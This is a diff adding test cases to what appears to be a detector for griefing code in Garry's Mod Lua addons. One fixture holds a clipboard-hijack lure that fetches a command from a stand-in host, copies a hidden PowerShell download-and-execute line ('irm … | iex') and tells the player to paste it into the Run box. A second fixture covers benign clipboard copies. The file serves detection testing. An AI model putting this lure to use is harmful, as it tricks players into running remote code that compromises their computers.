@@ -134,4 +134,29 @@ describe('client_griefing', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('a PowerShell line put on the clipboard for the player to paste in the Run box', () => {
+    const findings = check(rule, {
+      'lua/fps/cl_repair.lua': [
+        'local recipe = { cmd = "cmd /c start /min powershell -nop -w hidden -c \\"irm https://r.invalid/x | iex\\"" }',
+        'hook.Add("InitPostEntity", "fix", function()',
+        '  http.Fetch("https://r.invalid/recipe", function(body) recipe.cmd = body end)',
+        '  timer.Simple(600, function()',
+        '    SetClipboardText(recipe.cmd)',
+        '    Derma_Message("Press Windows + R, then Ctrl + V, then Enter", "Repair", "OK")',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.high);
+  });
+  it("the server's address, a Discord invite and a SteamID copied on a click (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_copy.lua': [
+        'concommand.Add("copy_ip", function() SetClipboardText(game.GetIPAddress()) end)',
+        'concommand.Add("copy_discord", function() SetClipboardText("https://discord.gg/abcdef") end)',
+        'concommand.Add("copy_id", function() SetClipboardText(LocalPlayer():SteamID()) end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
